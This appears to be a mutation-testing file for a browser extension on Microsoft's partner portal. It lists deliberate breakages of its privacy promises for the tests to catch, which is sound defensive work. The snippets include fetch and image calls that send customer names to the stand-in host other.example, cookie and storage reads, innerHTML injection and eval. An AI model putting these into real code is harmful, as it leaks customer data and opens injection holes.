/**
 * Ways to break the promises of docs/promises.md. Each is what somebody might do by mistake or in haste:
 * `edits` change a text that stands once in a file (`$&` is that text); `test` is what must fail then, and `says` what its
 * failure must tell. `needs` is what the test reads: the build it is for.
 */
const DRAW = 'this.#annotations.draw(';
const JUDGED = 'const report = await judge(message.list);';
const POPUP = "void mount('popup');";
const CONTENT = 'const life = takeOver();';
const CARD_OPENS = 'marker.lens.append(card);';
const IN_ALL = "connect-src 'none'";

const draws = (code) => ['src/content/list-session.ts', DRAW, `{ const [row] = rows; if (row) { ${code} } }\n    $&`];
const judges = (code) => [
  'src/worker/receive.ts',
  JUDGED,
  `$&\n      { const [row] = report.subscriptions; if (row) { ${code} } }`,
];
const popup = (code) => ['src/popup/main.tsx', POPUP, `${code}\n$&`];
const starts = (code) => ['src/content.iife.ts', CONTENT, `$&\n${code}`];
const marks = (code) => [
  'src/annotations/marker.ts',
  'this.view = view;',
  `$&\n    { const { element, lens, button } = this; void [element, lens, button]; ${code} }`,
];
const manifest = (from, to) => ['manifest.json', from, to];

const e2e = (name) => ['test/e2e/promises.test.ts', name];
const built = (name) => ['test/build/built.test.ts', name];
const packed = (name) => ['test/package/package.test.ts', name];

export const BREAKS = {
  'no request to anyone': [
    [
      'the worker sends a name with fetch',
      [judges("void fetch('https://other.example/?' + row.name).catch(() => 0)")],
      e2e('1 .*page, worker and'),
      'service_worker log: .*other.example',
    ],
    [
      'the content script asks the portal itself',
      [draws("void fetch('/dashboard/log?' + row.name)")],
      e2e('1 .*page, worker and'),
      '/dashboard/log',
    ],
    [
      'the content script loads a picture from elsewhere',
      [draws("new Image().src = 'https://other.example/' + row.name")],
      e2e('1 .*page, worker and'),
      'page https://other.example/',
    ],
    [
      'the content script opens a WebSocket',
      [draws("try { new WebSocket('wss://other.example/') } catch {}")],
      e2e('1 .*page, worker and'),
      'page wss://other.example/',
    ],
    [
      'the popup loads a picture from elsewhere',
      [popup("new Image().src = 'https://other.example/seen';")],
      e2e('1 .*page, worker and'),
      'https://other.example/seen',
    ],
    [
      'the policy lets surfaces and worker connect',
      [manifest(IN_ALL, 'connect-src https:')],
      built('lets pages'),
      IN_ALL,
    ],
    [
      'the same, and the browser is asked',
      [manifest(IN_ALL, 'connect-src https:')],
      e2e('1 .*not even a part'),
      '/sent',
    ],
    [
      'the content script holds ways to ask, not run',
      [
        starts(
          'addEventListener("never", () => [fetch("/x"), new (globalThis as any).XMLHttpRequest(), new WebSocket("wss://x"), navigator.sendBeacon("/x"), new EventSource("/x")]);',
        ),
      ],
      built('src/content.*evaluates no text'),
      ...['fetch\\(', 'XMLHttpRequest', 'WebSocket', 'sendBeacon', 'EventSource'].map((name) => `\\+ +"${name}`),
    ],
  ],
  'one site and no other': [
    [
      'all of Microsoft’s hosts',
      [manifest('https://partner.microsoft.com/*', 'https://*.microsoft.com/*')],
      e2e('2 .*runs nothing on'),
      'www\\.partner\\.microsoft\\.com',
      'chrome-extension://',
    ],
    [
      'http too',
      [manifest('https://partner.microsoft.com/*', '*://partner.microsoft.com/*')],
      e2e('2 .*runs nothing on http:'),
      'chrome-extension://',
    ],
    [
      'every site',
      [manifest('https://partner.microsoft.com/*', 'https://*/*')],
      e2e('2 .*runs nothing on'),
      'xpartner',
      'other.example',
    ],
    ['frames', [manifest('"run_at"', '"all_frames": true, $&')], e2e('2 .*frame'), 'chrome-extension://'],
    [
      'another match',
      [manifest('"https://partner.microsoft.com/*"', '$&, "https://admin.microsoft.com/*"')],
      built('asks for storage'),
      'admin.microsoft.com',
    ],
    ...['"host_permissions"', '"optional_host_permissions"', '"optional_permissions"'].map((name) => [
      name.slice(1, -1),
      [manifest('"permissions"', `${name}: [${name.includes('host') ? '"https://*/*"' : '"tabs"'}], $&`)],
      built('asks for storage'),
      name.includes('host') ? 'https://' : 'tabs',
    ]),
    [
      'one more permission',
      [manifest('"storage", "sidePanel"', '"storage", "sidePanel", "cookies"')],
      built('asks for storage'),
      'cookies',
    ],
  ],
  'no tokens, cookies, stores of the page': [
    [
      'the content script looks at each of them',
      [
        draws(
          'void [document.cookie, document.referrer, localStorage, sessionStorage, window.indexedDB, caches, window.cookieStore, window.name, window.opener, navigator.credentials, navigator.clipboard, navigator.serviceWorker, navigator.storage, history.state]',
        ),
      ],
      e2e('3 '),
      ...[
        'cookie',
        'referrer',
        'localStorage',
        'sessionStorage',
        'indexedDB',
        'caches',
        'cookieStore',
        'name',
        'opener',
        'credentials',
        'clipboard',
        'serviceWorker',
        'storage',
        'state',
      ].map((name) => `"${name}"`),
    ],
    [
      'a script of ours in the page’s own world reads a store',
      [manifest('"run_at"', '"world": "MAIN", $&'), starts("localStorage.getItem('token');")],
      built('opens nothing'),
      'MAIN',
    ],
  ],
  'nothing of a customer is kept': [
    [
      'a name in storage.local',
      [judges('await browser.storage.local.set({ options: { last: row.name } })')],
      e2e('4 .*no place'),
      'Microsoft 365',
    ],
    [
      'an id in storage.sync',
      [judges('await browser.storage.sync.set({ last: row.key })')],
      e2e('4 .*no place'),
      '[0-9a-f]{8}-',
    ],
    [
      'a record of its own in storage.local',
      [judges('await browser.storage.local.set({ seen: 1 })')],
      e2e('4 .*no place'),
      'seen',
    ],
    [
      'an answer on disk',
      [
        [
          'src/worker/store.ts',
          'const names = await customerNames();',
          '$&\n  await browser.storage.local.set({ options: context });',
        ],
      ],
      e2e('4 .*no place'),
      'delegatedAdmin',
    ],
    ['a name in the popup’s localStorage', [popup("localStorage.setItem('last', 'x');")], e2e('4 .*no place'), 'last'],
    ['a database of the worker', [judges("indexedDB.open('rows')")], e2e('4 .*no place'), 'rows'],
    ['a cache of the worker', [judges("await caches.open('rows')")], e2e('4 .*no place'), 'rows'],
    [
      'a name in the portal’s localStorage',
      [draws("localStorage.setItem('last', row.name)")],
      e2e('4 .*no place'),
      'Microsoft 365',
    ],
    [
      'a name among the session’s answers',
      [judges('await browser.storage.session.set({ last: row.name })')],
      e2e('4 .*no place'),
      'last',
    ],
    [
      'the session’s answers opened to content scripts',
      [
        [
          'src/background.ts',
          'watchPolicy(policyChanged);',
          "$&\nvoid chrome.storage.session.setAccessLevel({ accessLevel: 'TRUSTED_AND_UNTRUSTED_CONTEXTS' });",
        ],
      ],
      e2e('4 .*reach'),
      'resolved',
    ],
  ],
  '“Forget everything” forgets everything': [
    ...[
      ['answers', 'forget(null),', 'customer:'],
      ['the Offer Matrix', 'forgetOfferMatrix(),', 'offer-matrix'],
      ['options', 'forgetOptions(),', 'options'],
      ['the list that was pointed at', 'forgetTaught(),', 'taught-shape'],
      ['the tour', 'forgetTour(),', 'tour-over'],
      ['the row that a card asked for', 'forgetAskedRow(),', 'asked-row'],
    ].map(([what, call, says]) => [`keeps ${what}`, [['src/worker/receive.ts', call, '']], e2e('5 '), says]),
    ['keeps what was ticked', [['src/worker/store.ts', '[...names, ...ticked]', 'names']], e2e('5 '), 'ticked:'],
    [
      'leaves the open list as it was judged',
      [
        [
          'src/worker/receive.ts',
          "await sendToTabs({ type: 'taught' });\n      return { kept: 0 };\n    default",
          'return { kept: 0 };\n    default',
        ],
      ],
      e2e('5 '),
      '(Blocked|Cannot tell|possible)',
    ],
  ],
  'the page cannot read what we write': [
    [
      'open roots',
      [['src/annotations/dom.ts', "__OPEN_ROOTS__ ? 'open' : 'closed'", "'open'"]],
      e2e('6 .*no verdict'),
      'Upgrade Lens|Blocked',
    ],
    [
      'the same, in the built file',
      [['src/annotations/dom.ts', "__OPEN_ROOTS__ ? 'open' : 'closed'", "'open'"]],
      built('keeps the roots closed'),
      'attachShadow',
    ],
    ...[
      ['an attribute', 'element.title = label'],
      ['a property of the element', 'element.dataset.v = label'],
      ['a text beside the root', 'element.textContent = label'],
      ['a custom property', "element.style.setProperty('--v', JSON.stringify(label))"],
      [
        'an event',
        "element.dispatchEvent(new CustomEvent('upgrade-lens', { detail: label, bubbles: true, composed: true }))",
      ],
      ['a posted message', "postMessage(label, '*')"],
      [
        'a sheet of the document',
        "{ const sheet = new CSSStyleSheet(); sheet.replaceSync(':root{--v:' + JSON.stringify(label) + '}'); document.adoptedStyleSheets.push(sheet); }",
      ],
      ['the title of the document', 'document.title = label'],
      ['the address of the page', "history.replaceState(label, '')"],
      ['the session’s store of the page', "sessionStorage.setItem('v', label)"],
      ['a named mark on the page’s clock', 'performance.mark(label)'],
      ['a text within the root, which find and selection reach', 'lens.append(label)'],
    ].map(([what, code]) => [
      `a label in ${what}`,
      [marks(`${code};`)],
      e2e('6 .*no verdict'),
      '(Blocked|Cannot tell|Upgrade possible|No upgrade path): ',
    ]),
    [
      'the summary where window.find reaches it',
      [['src/annotations/announcer.ts', "h('object'", "h('div'"]],
      e2e('6 .*no verdict'),
      'can be|Upgrade Lens: |possible|blocked',
    ],
    [
      'an attribute of a card’s marker',
      [['src/annotations/cards.ts', CARD_OPENS, '$& marker.element.title = text.verdict;']],
      e2e('6 .*no verdict'),
      'Blocked|Cannot|possible',
    ],
    ['a class for each verdict', [marks('element.className = state;')], e2e('6 .*cannot tell'), 'class='],
    [
      'a width for each verdict',
      [marks("lens.style.cssText = 'display:inline-block;padding-left:' + state.length + 'px';")],
      e2e('6 .*cannot tell'),
      '\\+ .*\\d',
    ],
    [
      'a colour for each verdict',
      [marks("element.style.color = state === 'blocked' ? 'red' : 'green';")],
      e2e('6 .*cannot tell'),
      'color',
    ],
  ],
  'nobody else can speak to us': [
    [
      'the page, by postMessage',
      [
        starts("addEventListener('message', ({ data }) => void chrome.runtime.sendMessage(data));"),
        ['src/worker/receive.ts', '|| !FROM_CONTENT.includes(parsed.data.type)', ''],
        ['src/worker/receive.ts', 'return actFor(parsed.data', 'void act(parsed.data); $&'],
      ],
      e2e('7 .*not the page'),
      'delegatedAdmin',
    ],
    [
      'the page, by an event',
      [
        starts(
          "addEventListener('upgrade-lens', (event) => void chrome.runtime.sendMessage((event as CustomEvent).detail));",
        ),
        ['src/worker/receive.ts', '|| !FROM_CONTENT.includes(parsed.data.type)', ''],
        ['src/worker/receive.ts', 'return actFor(parsed.data', 'void act(parsed.data); $&'],
      ],
      e2e('7 .*not the page'),
      'delegatedAdmin',
    ],
    [
      'the page, by the extension’s id',
      [manifest('"ids": []', '"ids": [], "matches": ["https://partner.microsoft.com/*"]')],
      e2e('7 .*not the page'),
      'sendMessage',
    ],
    [
      'a file that the page can fetch',
      [
        manifest(
          '"permissions"',
          '"web_accessible_resources": [{ "resources": ["icons/16.png"], "matches": ["https://partner.microsoft.com/*"] }], $&',
        ),
      ],
      e2e('7 .*not the page'),
      'icons/16.png',
    ],
    [
      'the same, in the manifest',
      [
        manifest(
          '"permissions"',
          '"web_accessible_resources": [{ "resources": ["icons/16.png"], "matches": ["https://partner.microsoft.com/*"] }], $&',
        ),
      ],
      built('opens nothing'),
      'icons/16.png',
    ],
    [
      'another extension',
      [
        manifest('"externally_connectable": { "ids": [] },', ''),
        [
          'src/background.ts',
          'watchPolicy(policyChanged);',
          '$&\nbrowser.runtime.onMessageExternal.addListener(answer as Listener);',
        ],
        ['src/worker/receive.ts', 'if (sender.id !== browser.runtime.id) return undefined;', ''],
        ['src/worker/receive.ts', "return !!sender.url?.startsWith(browser.runtime.getURL(''));", 'return true;'],
      ],
      e2e('7 .*another extension'),
      'nothing|Could not|delegatedAdmin|meanings|-  |kept',
    ],
    [
      'a worker that does not look at who sends',
      [['src/worker/receive.ts', 'if (sender.id !== browser.runtime.id) return undefined;', '']],
      ['test/worker/receive.test.ts', '.'],
      'expected',
    ],
    [
      'a content script beyond its rights',
      [
        [
          'src/worker/receive.ts',
          'if (isOurPage(sender)) return act',
          'if (isOurPage(sender) || tabId !== null) return act',
        ],
      ],
      e2e('7 .*content script'),
      'forgotten|kept|delegatedAdmin',
    ],
    ['frames', [['src/worker/receive.ts', 'frameId === 0 && ', '']], ['test/worker/receive.test.ts', '.'], 'expected'],
    [
      'other hosts',
      [['src/worker/receive.ts', 'url?.startsWith(PAGE) && ', '']],
      ['test/worker/receive.test.ts', '.'],
      'expected',
    ],
  ],
  'no code or markup out of names': [
    [
      'a card’s name as HTML',
      [
        [
          'src/annotations/card.ts',
          "h('p', {}, h('b', { dir: 'auto' }, name))",
          "Object.assign(h('p'), { innerHTML: name })",
        ],
      ],
      e2e('8 '),
      'img|__harm|undefined|harm|toContain|to include',
    ],
    [
      'a marker’s label as HTML',
      [marks("{ const wrap = document.createElement('i'); wrap.innerHTML = label; lens.append(wrap); }")],
      e2e('8 '),
      'number',
    ],
    [
      'a name of the popup as HTML',
      [['src/ui/Details.tsx', '<bdi>{name}</bdi>', '<bdi dangerouslySetInnerHTML={{ __html: name }} />']],
      e2e('8 '),
      'details|img|TrustedHTML|expected',
    ],
    [
      'an address out of a name',
      [['src/ui/Details.tsx', '<bdi>{name}</bdi>', '<a href={name}>{name}</a>']],
      e2e('8 '),
      'expected 1 to be +0|expected 1',
    ],
    [
      'a name as the key of a plain object',
      [draws('for (const { name } of rows) (({}) as any)[name].polluted = 1')],
      e2e('8 '),
      'polluted|"?1"?',
    ],
    [
      'names of any length',
      [
        ['src/portal/dom.ts', '.trim().slice(0, 500)', '.trim()'],
        ['src/portal/dom.ts', 'text.slice(0, 5000)', 'text'],
      ],
      e2e('8 '),
      '500|No such report',
    ],
    [
      'a form asked past its fields',
      [
        [
          'src/portal/dom.ts',
          'return (node, argument) => call.call(node, argument);',
          'return (node, argument) => { const own = (node as any)[name]; return typeof own === "function" ? own.call(node, argument) : own; };',
        ],
      ],
      ['test/portal-reader/hostile.test.ts', 'shadow'],
      'expected|TypeError',
    ],
  ],
  'a stolen click gains nothing': [
    [
      'a click that nobody made opens a card',
      [
        ['src/annotations/cards.ts', 'if (!isTrusted) return;', 'void isTrusted;'],
        ['src/annotations/cards.ts', "button.addEventListener('click'", "marker.element.addEventListener('click'"],
      ],
      e2e('9 .*page itself'),
      'Show details|details',
    ],
    [
      'the same, at the button within',
      [['src/annotations/cards.ts', 'if (!isTrusted) return;', 'void isTrusted;']],
      ['test/annotations/annotations.test.ts', 'imitated'],
      'expected',
    ],
    [
      'a card’s button that anybody presses',
      [['src/annotations/dom.ts', 'event.isTrusted && act()', 'act()']],
      ['test/annotations/annotations.test.ts', 'imitated'],
      'expected',
    ],
    [
      'a pointer that is none opens a card',
      [
        [
          'src/annotations/cards.ts',
          "lens.addEventListener(\n      'pointerenter'",
          "marker.element.addEventListener(\n      'pointerenter'",
        ],
      ],
      e2e('9 .*page itself'),
      'Show details|details',
    ],
    [
      'a click on a marker opens a page',
      [
        [
          'src/annotations/cards.ts',
          'if (this.#marker === marker && this.#pinned) this.close();',
          'if (marker.view) this.#actions.openDetails(marker.view.key);\n      $&',
        ],
      ],
      e2e('9 .*transparent markers'),
      'asked-row|expected',
    ],
    [
      'a click on a marker answers a question',
      [
        [
          'src/worker/receive.ts',
          "case 'card':",
          "$&\n      await change(reports.get(tabId)?.source.customerId ?? '', (context) => ({ ...context, confirmations: { ...context.confirmations, delegatedAdmin: 'yes' } }));",
        ],
      ],
      e2e('9 .*overlay'),
      'delegatedAdmin',
    ],
  ],
  'no code from elsewhere': [
    [
      'eval in the content script',
      [starts("addEventListener('never', () => (0, eval)('1'));")],
      built('src/content.*evaluates no text'),
      'eval',
    ],
    [
      'new Function in the content script',
      [starts("addEventListener('never', () => new Function('return 1')());")],
      built('src/content.*evaluates no text'),
      'Function',
    ],
    [
      'a text for setTimeout',
      [starts("addEventListener('never', () => setTimeout('1', 1));")],
      built('src/content.*evaluates no text'),
      'setTimeout',
    ],
    ['eval in the worker', [judges("(0, eval)('1')")], built('evaluates no text'), 'eval'],
    [
      'a policy that lets WebAssembly be made of data',
      [manifest("script-src 'self'", "script-src 'self' 'wasm-unsafe-eval'")],
      built('lets pages'),
      'unsafe',
    ],
    [
      'a script of another host in a page',
      [['src/popup/index.html', '<script ', '<script src="https://other.example/x.js"></script>\n    $&']],
      built('hold no script'),
      'other.example',
    ],
    [
      'a script within a page',
      [['src/popup/index.html', '<script ', '<script>1</script>\n    $&']],
      built('hold no script'),
      '<script>',
    ],
    [
      'a handler within a page',
      [['src/popup/index.html', '<div id="app"', '<div onclick="1" id="app"']],
      built('hold no script'),
      'onclick',
    ],
    [
      'a content script that imports while it runs',
      [
        starts(
          "addEventListener('never', () => void import(/* @vite-ignore */ 'https://other.example/' + Math.random()));",
        ),
      ],
      built('one file without imports'),
      'import',
    ],
  ],
  'removed, it leaves nothing': [
    [
      'the pulse goes on',
      [['src/portal/route.ts', "signal.addEventListener('abort', () => clearInterval(poll));", 'void poll;']],
      e2e('11 '),
      'interval',
    ],
    [
      'nobody notices',
      [['src/content.iife.ts', 'isAlive() || life.abort()', 'isAlive() || true']],
      e2e('11 '),
      'Blocked|Upgrade|Cannot',
    ],
    [
      'markers stay',
      [['src/annotations/annotations.ts', "signal.addEventListener('abort', () => this.clear());", '']],
      e2e('11 '),
      'Blocked|Upgrade|Cannot',
    ],
    [
      'the summary stays',
      [['src/annotations/announcer.ts', "signal.addEventListener('abort', () => element.remove());", 'void signal;']],
      e2e('11 '),
      'Upgrade Lens: |possible',
    ],
    [
      'the page goes on being observed',
      [['src/portal/follow.ts', 'observer.disconnect();', '']],
      e2e('11 '),
      'MutationObserver',
    ],
    [
      'markers go on being observed',
      [
        [
          'src/annotations/clipped.ts',
          "signal.addEventListener('abort', () => observer.disconnect());",
          'void signal;',
        ],
      ],
      e2e('11 '),
      'IntersectionObserver',
    ],
    [
      'a listener stays',
      [['src/portal/route.ts', 'addEventListener(event, check, { signal })', 'addEventListener(event, check)']],
      e2e('11 '),
      'listener',
    ],
    [
      'a timer that sets itself again',
      [starts('const beat = (): void => void setTimeout(beat, 500);\nbeat();')],
      e2e('11 '),
      'timeout',
    ],
    [
      'a frame that asks for the next',
      [starts('const beat = (): void => void requestAnimationFrame(beat);\nbeat();')],
      e2e('11 '),
      'frame',
    ],
    [
      'an element of another name stays',
      [draws("row.elements[0]?.append(document.createElement('i'))")],
      e2e('11 .*stays open'),
      'expected',
    ],
  ],
  'the package is what the source gives': [
    [
      'a time of building in the code',
      [
        ['vite.config.ts', '__OPEN_ROOTS__:', '__BUILT__: JSON.stringify(String(Date.now())),\n    $&'],
        [
          'src/background.ts',
          'watchPolicy(policyChanged);',
          '$&\nObject.assign(globalThis, { built: (globalThis as any).__BUILT__ ?? __BUILT__ });',
        ],
      ],
      packed('two builds'),
      'expected false to be true',
    ],
    [
      'the clock in the zip',
      [['scripts/package/zip.mjs', 'new Date(1980, 0, 1, 12)', 'new Date()']],
      packed('time that says nothing'),
      '1980',
    ],
    [
      'the time zone in the zip',
      [['scripts/package/zip.mjs', 'new Date(1980, 0, 1, 12)', 'new Date(Date.UTC(1990, 0, 1, 12))']],
      packed('two builds'),
      'expected false to be true',
    ],
    [
      'a path of the machine',
      [
        ['vite.config.ts', '__OPEN_ROOTS__:', '__BUILT__: JSON.stringify(process.cwd()),\n    $&'],
        ['src/background.ts', 'watchPolicy(policyChanged);', '$&\nObject.assign(globalThis, { built: __BUILT__ });'],
      ],
      packed('holds a built extension'),
      'assets/',
    ],
    [
      'a file more',
      [['scripts/package.mjs', 'return deterministicZip(', "writeFileSync(join(folder, 'notes.txt'), '');\n    $&"]],
      packed('.'),
      'notes.txt',
    ],
    [
      'another manifest',
      [manifest('"storage", "sidePanel"', '"storage", "sidePanel", "tabs"')],
      packed('manifest that was last'),
      'tabs',
    ],
    [
      'a file that can be run',
      [['scripts/package/zip.mjs', '0o100644', '0o100755']],
      packed('time that says nothing'),
      '100755',
    ],
  ],
  'nothing to consoles and windows': [
    ['the content script logs a name', [draws('console.log(row.name)')], e2e('13 '), 'page log: '],
    ['the worker logs a name', [judges('console.debug(row.name)')], e2e('13 '), 'service_worker debug: '],
    ['the popup logs', [popup("console.info('here');")], e2e('13 '), 'surface info: here'],
    ['an error that nobody catches', [draws("void Promise.reject(new Error('lost ' + row.name))")], e2e('13 '), 'lost'],
    [
      'a name in the page’s window',
      [draws("{ const named = document.createElement('i'); named.id = 'upgradeLens'; document.body.append(named); }")],
      e2e('13 '),
      'upgradeLens',
    ],
    ['a message to the window', [draws("postMessage({ name: row.name }, '*')")], e2e('13 '), 'message'],
  ],
};
